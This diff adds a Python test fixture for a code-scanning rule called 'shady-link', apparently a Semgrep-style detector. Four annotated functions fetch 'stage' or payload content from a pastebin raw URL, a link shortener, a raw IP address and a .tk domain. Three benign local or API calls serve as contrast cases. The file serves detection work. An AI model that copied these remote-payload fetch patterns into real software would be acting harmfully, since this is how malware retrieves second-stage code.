@@ -1,0 +1,39 @@
+"""Utilities. See https://bit.ly/3FixTur3 for the changelog."""
+import urllib.request
+
+import requests
+
+
+def fetch_stage():
+    # ruleid: shady-link
+    return requests.get("https://pastebin.com/raw/AbCdEf12").text
+
+
+def fetch_short():
+    # ruleid: shady-link
+    return urllib.request.urlopen("https://bit.ly/3FixTur3").read()
+
+
+def fetch_raw_ip():
+    # ruleid: shady-link
+    return requests.get("http://203.0.113.7/payload.bin").content
+
+
+def fetch_tld():
+    # ruleid: shady-link
+    return requests.get("http://update-server.example.tk/latest").content
+
+
+def local_health():
+    # ok: shady-link
+    return requests.get("http://127.0.0.1:8000/health").ok
+
+
+def lan_device():
+    # ok: shady-link
+    return requests.get("http://192.168.1.10/status").json()
+
+
+def api():
+    # ok: shady-link
+    return requests.get("https://api.example.invalid/v1/items").json()
